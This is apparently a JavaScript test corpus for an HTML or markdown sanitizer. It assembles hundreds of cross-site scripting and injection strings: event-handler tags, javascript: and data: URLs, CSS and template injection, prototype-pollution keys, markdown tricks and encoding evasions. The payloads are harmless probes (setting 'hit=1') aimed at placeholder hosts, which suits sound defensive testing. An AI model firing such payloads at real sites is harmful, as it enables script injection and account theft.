// Texts that have run something, somewhere, when they were taken for markup, a style or an address.

const RUN = 'window.hit=1';
const HANDLERS = [
  ['img', 'src=x onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video', 'src=x onerror'],
  ['audio', 'src=x onerror'],
  ['iframe', 'onload'],
  ['input', 'autofocus onfocus'],
  ['details', 'open ontoggle'],
  ['marquee', 'onstart'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onload'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['style', 'onload'],
  ['script', 'src=x onerror'],
  ['button', 'onclick'],
  ['a', 'href=# onmouseover'],
  ['div', 'onpointerover'],
  ['form', 'onsubmit'],
  ['math', 'onclick'],
  ['table', 'background=x onmouseenter'],
  ['picture', 'onanimationstart'],
  ['dialog', 'open onfocus'],
  ['meter', 'onpointerenter'],
  ['svg><animate', 'onbegin'],
];
const WRAPS = ['<', '"><', "'><", '--><', '</textarea><', '</title><', ']]><'];
const ADDRESSES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'javascript&colon;',
  '&#106;avascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:https://a.example/',
  'file:///etc/passwd',
  '//a.example/x',
  'http://javascript:1@a.example',
  'https://a.example/"onmouseover="',
  "https://a.example/'onclick='",
  'https://a.example/<script>',
];
const STYLES = [
  'background:url(//a.example/x)',
  'behavior:url(#x)',
  '@import "//a.example/x";',
  'expression(alert(1))',
  '-moz-binding:url(//a.example)',
  'position:fixed;inset:0',
  '</style><img src=x onerror=hit=1>',
];
const TEMPLATES = [
  '{{constructor.constructor("hit=1")()}}',
  '${hit=1}',
  '<%= 7*7 %>',
  '#{7*7}',
  '[[${7*7}]]',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"hit":1}}',
];
const MARKDOWN = [
  '[x](javascript:hit=1)',
  '![x](//a.example/x.png)',
  '![x](x"onerror="hit=1)',
  '<javascript:hit=1>',
  '[x]: javascript:hit=1',
  '**<img src=x onerror=hit=1>**',
  '`<img src=x onerror=hit=1>`',
  '```\n</code></pre><img src=x onerror=hit=1>\n```',
  '_<svg onload=hit=1>_',
  '~~<svg onload=hit=1>~~',
  '@<img src=x onerror=hit=1>',
  ':<img src=x onerror=hit=1>:',
];
const ODD = [
  '<scr\u0000ipt>hit=1</scr\u0000ipt>',
  '<img src=x onerror\u000b=hit=1>',
  '\u202e<img src=x onerror=hit=1>',
  '＜img src=x onerror=hit=1＞',
  '%3Cimg src=x onerror=hit=1%3E',
  '&lt;img src=x onerror=hit=1&gt;',
  '\\x3cimg src=x onerror=hit=1\\x3e',
  '<base href=//a.example/>',
  '<meta http-equiv=refresh content="0;url=//a.example/">',
  '<form action=//a.example/><input type=submit>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<svg><script>hit=1</script></svg>',
  '<math><mi//xlink:href="data:x,<script>hit=1</script>">',
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '<template><script>hit=1</script></template>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit=1>#x">',
  '<link rel=import href=//a.example/>',
];

/** All of them. @returns {string[]} */
export function attacks() {
  const tags = HANDLERS.map(
    ([tag, handler], at) => `${WRAPS[at % WRAPS.length]}${tag} ${handler}=${RUN}>`,
  );
  const addresses = ADDRESSES.flatMap((address) => [
    `${address}${RUN}`,
    `<a href="${address}${RUN}">x</a>`,
  ]);
  const styles = STYLES.flatMap((style) => [style, `<p style="${style}">x</p>`]);
  return [...tags, ...addresses, ...styles, ...TEMPLATES, ...MARKDOWN, ...ODD];
}
